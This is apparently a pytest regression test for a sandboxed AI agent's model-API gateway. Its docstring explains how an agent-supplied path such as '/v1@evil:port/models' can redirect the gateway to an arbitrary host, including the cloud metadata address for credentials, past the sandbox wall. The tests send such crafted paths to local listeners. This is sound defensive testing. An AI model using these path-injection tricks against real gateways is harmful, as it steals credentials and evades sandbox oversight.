"""Attacks on the model-API gateway that the earlier reviews did not name.

The gateway holds the model API key, outside the sandbox, with the host's network. For OpenAI
style providers it drops the client's leading ``/v1`` and appends the rest of the path to the
configured upstream URL as text. With an upstream URL that has no path (a llama.cpp or LM Studio
server, which answer without ``/v1``), ``GET /v1@evil:port/models`` becomes
``http://upstream@evil:port/models``: the upstream turns into user-info and the gateway, on the
host, fetches whatever the agent names and hands back the answer (``/v1@169.254.169.254/latest/
meta-data/…``: the machine's cloud credentials), past the sandbox's network wall. (httpx then
sends the user-info as Basic auth instead of the key.) Both servers here are on 127.0.0.1.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator

import pytest
from tests.support.listener import Listener

from airlock.gateway.llm import start_in_thread
from airlock.gateway.tickets import Ticket
from airlock.mask import Masker, MaskSettings
from airlock.policy.agent_gateways import LlmGatewayConfig

KEY = "sk-upstream-" + "k" * 24


def _models() -> Listener:
    """Answers every request with an empty model list and keeps the request heads."""
    return Listener(b'{"object":"list","data":[]}', "application/json")


@pytest.fixture
def listeners() -> Iterator[tuple[Listener, Listener]]:
    upstream, evil = _models(), _models()
    yield upstream, evil
    upstream.close()
    evil.close()


@pytest.mark.parametrize("trick", ["/v1@127.0.0.1:{evil}/models", "/v1@127.0.0.1:{evil}"])
def test_the_gateway_calls_its_upstream_only(
    listeners: tuple[Listener, Listener], trick: str
) -> None:
    upstream, evil = listeners
    config = LlmGatewayConfig.model_validate(
        {"name": "model", "kind": "llm", "provider": "openai-compatible",
         "upstream": f"http://127.0.0.1:{upstream.port}"}
    )  # fmt: skip
    ticket = Ticket.issue("session-1", "model")
    gateway = start_in_thread(
        config, masker=Masker(MaskSettings()), record=lambda *_: 0, approve=None,
        ticket=ticket, environ={config.key_env: KEY},
    )  # fmt: skip
    host, port = gateway.url.split("//", 1)[1].split("/", 1)[0].rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=20) as sock:
            path = trick.format(evil=evil.port)
            sock.sendall(
                f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {ticket.value}\r\n"
                "Connection: close\r\n\r\n".encode()
            )
            answer = b""
            while chunk := sock.recv(65536):
                answer += chunk
    finally:
        gateway.close()
    assert evil.heads == [], answer  # nothing, and no key, went to the agent's host
    assert len(upstream.heads) <= 1 and all(KEY.encode() in h for h in upstream.heads)
